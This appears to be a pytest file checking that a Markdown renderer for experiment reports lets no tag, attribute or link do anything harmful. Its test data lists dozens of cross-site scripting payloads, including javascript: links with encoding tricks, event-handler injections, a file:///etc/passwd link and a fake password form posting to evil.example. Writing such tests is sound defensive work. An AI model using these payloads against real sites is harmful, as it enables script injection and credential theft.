"""Markdown of reports: what people write is shown, and nothing that they write runs or loads."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from experiments.models.report_block import LONGEST_TEXT
from experiments.reports.written.markdown import leads_somewhere_safe, rendered

TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "a", "em", "strong", "s", "code", "pre", "blockquote"),
    *("ul", "ol", "li", "hr", "br", "div", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "code": {"class"},
    "ol": {"start"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "table": {"class"},
    "th": {"scope", "class"},
    "td": {"class"},
}


class Seen(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def problems(html: str) -> list[str]:
    """Tags, attributes and addresses that no text may bring in."""
    found = []
    for tag, attributes in Seen(html).tags:
        if tag not in TAGS:
            found.append(tag)
        found += [f"{tag} {name}" for name in set(attributes) - ATTRIBUTES.get(tag, set())]
        if tag == "a" and not leads_somewhere_safe(attributes.get("href") or ""):
            found.append(f"href {attributes.get('href')}")
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style>",
    "<!-- --><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][a]\n\n[a]: javascript:alert(1)",
    '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](http://a.example/"onmouseover=alert(1))',
    "![x](http://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x"onerror=alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    '``` js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|--:|\n| <img src=x onerror=alert(1)> | 2 |",
    "# <b onclick=alert(1)>x</b>",
    "**<u>x</u>**",
    "x\n===\n<details open ontoggle=alert(1)>",
    "[a<script>alert(1)</script>](http://a.example)",
    "</div></main><form action=http://evil.example><input name=password>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_brings_in_a_tag_an_attribute_or_an_address_that_does_something(text):
    html = rendered(text)
    assert problems(html) == []
    assert "<script" not in html.lower()


@given(
    st.text(
        alphabet="<>\"'`=:/\\&#;()[]!*_|-\n\t javscript:onerdataimghref0123456789", max_size=80
    )
)
def test_neither_does_any_text_at_all(text):
    assert problems(rendered(text)) == []


def test_the_check_sees_an_attack():
    found = problems('<img src="x" onerror="y"><a href="javascript:z">')
    assert {*found} == {"img", "img src", "img onerror", "href javascript:z"}


def test_what_people_write_is_shown():
    html = rendered(
        "# Result\n\nIt is **good**, ~~not~~ *bad*; see [the paper](https://example.org/a?b=1&c=2).\n\n"
        "- one\n- two\n\n> said\n\n| a | b |\n|---|--:|\n| x | 2 |\n\n`1 < 2`"
    )
    for part in (
        "<h2>Result</h2>",
        "<strong>good</strong>",
        "<s>not</s>",
        '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">the paper</a>',
        "<li>one</li>",
        "<blockquote>",
        '<th scope="col" class="num">b</th>',
        '<td class="num">2</td>',
        "<code>1 &lt; 2</code>",
    ):
        assert part in html


def test_html_and_refused_links_stay_readable_as_text():
    assert "&lt;b&gt;bold&lt;/b&gt;" in rendered("<b>bold</b>")
    assert "[x](javascript:alert(1))" in rendered("[x](javascript:alert(1))")
    assert re.sub(r"<[^>]+>", "", rendered("שלום 🎯 <tag>")).strip() == "שלום 🎯 &lt;tag&gt;"


@pytest.mark.parametrize(
    ("address", "is_safe"),
    [
        ("https://example.org", True),
        ("mailto:a@example.org", True),
        ("/experiments/x/", True),
        ("#part", True),
        ("trials/3/?a=b:c", True),
        ("?filter=a:b", True),
        ("javascript:alert(1)", False),
        ("ftp://example.org", False),
        ("x:y", False),
        ("http://[broken", False),
    ],
)
def test_where_a_link_may_lead(address, is_safe):
    assert leads_somewhere_safe(address) is is_safe


@pytest.mark.parametrize(
    "piece", ["[", "*", "_", "`", ">", "![", "**a ", "[a](", "<", "|", "- ", "&"]
)
def test_the_longest_text_of_one_piece_is_rendered(piece):
    text = (piece * LONGEST_TEXT)[:LONGEST_TEXT]
    assert problems(rendered(text)) == []
